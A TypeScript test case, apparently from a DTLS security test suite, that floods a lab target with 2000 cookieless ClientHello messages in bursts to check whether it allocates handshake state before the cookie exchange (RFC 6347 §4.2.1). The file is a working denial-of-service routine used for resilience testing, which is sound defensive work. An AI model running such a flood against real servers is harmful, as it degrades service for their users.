import { writeMessage } from "../../../dtls/wire/handshake.ts";
import { ContentType, HandshakeType } from "../../../dtls/wire/registry.ts";
import { gatewayAttack, held } from "../../attack.ts";
import { firstWord } from "./flight.ts";
import { availability, overDtls } from "./reference.ts";

const hellos = 2000;
/** So many datagrams, and then a breath, or the target's socket would drop what was to be borne. */
const burst = 20;

export default gatewayAttack({
  id: "U-01b",
  title: "two thousand ClientHellos without a cookie, each another one",
  transports: overDtls,
  defeats: "state-before-cookie",
  severity: "medium",
  reference: availability(["RFC 6347 §4.2.1"], [770, 400]),
  async run(lab) {
    const client = await lab.dtls({ marks: ["ClientHello"] });
    for (let sent = 1; sent < hellos; sent += 1) {
      const body = client.helloBody({ random: lab.prng.bytes(32) });
      const hello = writeMessage(HandshakeType.client_hello, 0, body);
      client.port.send(client.records.write(ContentType.handshake, hello));
      if (sent % burst !== 0) continue;
      while ((await client.next(2)) !== undefined) continue;
    }
    client.flight(["ClientHello"]);
    const word = await firstWord(client, lab.patience.answerMs);
    // Whether honest peers are served after it is for the control of the case to say.
    return held(`${hellos} ClientHellos were borne, the last answered by ${word}`);
  },
});
